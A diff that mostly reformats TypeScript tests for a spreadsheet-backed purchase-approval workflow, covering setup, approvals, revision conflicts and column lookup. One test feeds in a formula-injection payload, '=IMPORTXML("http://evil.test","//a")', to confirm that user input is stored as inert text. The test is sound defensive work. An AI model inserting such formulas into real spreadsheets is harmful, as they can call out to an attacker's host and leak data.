@@ -26,13 +26,23 @@ describe('set up / repair', () => {
     const { cost, result } = t.ws.kernel.measure(() => t.as(OWNER, () => setUp(t.ctx())));
     expect(result).toEqual({ created: [], repaired: [], problems: [], changed: false });
     expect(JSON.stringify(TABS.map((s) => t.sheet.values(s.name)))).toBe(before);
-    const writes = Object.keys(cost.calls).filter((k) => /\.(setValues|setValue|insertSheet|protect|addEditors|removeEditors|setDescription|appendRow|setProperty)$/.test(k));
+    const writes = Object.keys(cost.calls).filter((k) =>
+      /\.(setValues|setValue|insertSheet|protect|addEditors|removeEditors|setDescription|appendRow|setProperty)$/.test(k),
+    );
     expect(writes).toEqual([]);
   });
 
   it('repairs a deleted tab and reports a renamed required column on a tab with data', () => {
     const t = governedSheet();
-    t.as(RITA, () => createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields: laptop, channel: 'form', actor: actor(RITA) }));
+    t.as(RITA, () =>
+      createRequestCommand(t.ctx(), {
+        workflowId: 'purchase-approval',
+        requester: RITA,
+        fields: laptop,
+        channel: 'form',
+        actor: actor(RITA),
+      }),
+    );
     t.sheet.write('Requests', 'E1', [['Status']]); // State renamed
     t.ws.kernel.meter.unmetered(() => {
       const ss = (t.services.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp).openById(t.spreadsheetId);
@@ -47,9 +57,17 @@ describe('set up / repair', () => {
 });
 
 describe('requests on the governed sheet', () => {
-  it('creates a request: one row that round-trips to the engine\'s Request, audit rows chained, notifications queued', () => {
+  it("creates a request: one row that round-trips to the engine's Request, audit rows chained, notifications queued", () => {
     const t = governedSheet();
-    const r = t.as(RITA, () => createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields: laptop, channel: 'form', actor: actor(RITA) }));
+    const r = t.as(RITA, () =>
+      createRequestCommand(t.ctx(), {
+        workflowId: 'purchase-approval',
+        requester: RITA,
+        fields: laptop,
+        channel: 'form',
+        actor: actor(RITA),
+      }),
+    );
     expect(r.request.id).toBe('PR-000001');
     expect(getRequest(t.ctx(), 'PR-000001')).toEqual(r.request);
     const rows = t.sheet.values('Requests');
@@ -62,9 +80,19 @@ describe('requests on the governed sheet', () => {
 
   it('approves: revision bumps, the row is rewritten in place, operator columns survive', () => {
     const t = governedSheet();
-    const c = t.as(RITA, () => createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields: laptop, channel: 'form', actor: actor(RITA) }));
+    const c = t.as(RITA, () =>
+      createRequestCommand(t.ctx(), {
+        workflowId: 'purchase-approval',
+        requester: RITA,
+        fields: laptop,
+        channel: 'form',
+        actor: actor(RITA),
+      }),
+    );
     t.sheet.write('Requests', 'Z1', [['Operator notes'], ['call vendor']]);
-    const a = t.as(MAX, () => applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }));
+    const a = t.as(MAX, () =>
+      applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }),
+    );
     expect(a.request.revision).toBe(2);
     expect(a.request.state).toBe('ordering');
     expect(getRequest(t.ctx(), c.request.id)).toEqual(a.request);
@@ -75,13 +103,25 @@ describe('requests on the governed sheet', () => {
 
   it('refuses a stale revision with a typed conflict and overwrites nothing', () => {
     const t = governedSheet();
-    const c = t.as(RITA, () => createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields: { ...laptop, amount: 9000 }, channel: 'form', actor: actor(RITA) }));
-    t.as(MAX, () => applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }));
+    const c = t.as(RITA, () =>
+      createRequestCommand(t.ctx(), {
+        workflowId: 'purchase-approval',
+        requester: RITA,
+        fields: { ...laptop, amount: 9000 },
+        channel: 'form',
+        actor: actor(RITA),
+      }),
+    );
+    t.as(MAX, () =>
+      applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }),
+    );
     const before = JSON.stringify(t.sheet.values('Requests'));
     const auditBefore = t.sheet.values('Audit').length;
     let err: unknown;
     try {
-      t.as(FAY, () => applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(FAY), expectedRevision: 1 }));
+      t.as(FAY, () =>
+        applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(FAY), expectedRevision: 1 }),
+      );
     } catch (e) {
       err = e;
     }
@@ -93,22 +133,48 @@ describe('requests on the governed sheet', () => {
 
   it('passes engine refusals through as RefusedError', () => {
     const t = governedSheet();
-    const c = t.as(RITA, () => createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields: laptop, channel: 'form', actor: actor(RITA) }));
-    expect(() => t.as(FAY, () => applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(FAY), expectedRevision: 1 }))).toThrow(RefusedError);
+    const c = t.as(RITA, () =>
+      createRequestCommand(t.ctx(), {
+        workflowId: 'purchase-approval',
+        requester: RITA,
+        fields: laptop,
+        channel: 'form',
+        actor: actor(RITA),
+      }),
+    );
+    expect(() =>
+      t.as(FAY, () =>
+        applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(FAY), expectedRevision: 1 }),
+      ),
+    ).toThrow(RefusedError);
   });
 
   it('finds columns by header: reordered columns work; a missing one is named and nothing is written', () => {
     const t = governedSheet();
-    const c = t.as(RITA, () => createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields: laptop, channel: 'form', actor: actor(RITA) }));
+    const c = t.as(RITA, () =>
+      createRequestCommand(t.ctx(), {
+        workflowId: 'purchase-approval',
+        requester: RITA,
+        fields: laptop,
+        channel: 'form',
+        actor: actor(RITA),
+      }),
+    );
     // Swap the Assignee and Requester columns (header and data).
     const rows = t.sheet.values('Requests');
-    t.sheet.write('Requests', 'F1', rows.map((r) => [r[6], r[5]]));
+    t.sheet.write(
+      'Requests',
+      'F1',
+      rows.map((r) => [r[6], r[5]]),
+    );
     expect(getRequest(t.ctx(), c.request.id)).toEqual(c.request);
     t.sheet.write('Requests', 'K1', [['Last change']]); // "Updated" renamed
     const before = JSON.stringify([t.sheet.values('Requests'), t.sheet.values('Audit'), t.sheet.values('Outbox')]);
     let err: unknown;
     try {
-      t.as(MAX, () => applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }));
+      t.as(MAX, () =>
+        applyActionCommand(t.ctx(), { requestId: c.request.id, action: { type: 'approve' }, actor: actor(MAX), expectedRevision: 1 }),
+      );
     } catch (e) {
       err = e;
     }
@@ -123,12 +189,21 @@ describe('requests on the governed sheet', () => {
     const evil = '=IMPORTXML("http://evil.test","//a")';
     const long = 'x'.repeat(49_990) + '=y';
     const fields = { ...laptop, item: evil, vendor: '+1 555 0100', justification: long };
-    const c = t.as(RITA, () => createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields, channel: 'form', actor: actor(RITA) }));
+    const c = t.as(RITA, () =>
+      createRequestCommand(t.ctx(), { workflowId: 'purchase-approval', requester: RITA, fields, channel: 'form', actor: actor(RITA) }),
+    );
     const back = getRequest(t.ctx(), c.request.id)!;
     expect(back.fields).toEqual(c.request.fields);
     expect(back.fields.item).toBe(evil);
     const sheets = (t.ws as unknown as { sheets: { get(id: string): { formulas(tab: string): string[][] } } }).sheets;
-    for (const tab of ['Requests', 'Audit', 'Outbox']) expect(sheets.get(t.spreadsheetId).formulas(tab).flat().filter((f) => f !== '')).toEqual([]);
+    for (const tab of ['Requests', 'Audit', 'Outbox'])
+      expect(
+        sheets
+          .get(t.spreadsheetId)
+          .formulas(tab)
+          .flat()
+          .filter((f) => f !== ''),
+      ).toEqual([]);
     const summaryCol = t.sheet.values('Requests')[0]!.indexOf('Summary');
     expect(t.sheet.values('Requests')[1]![summaryCol]).toBe(evil);
   });
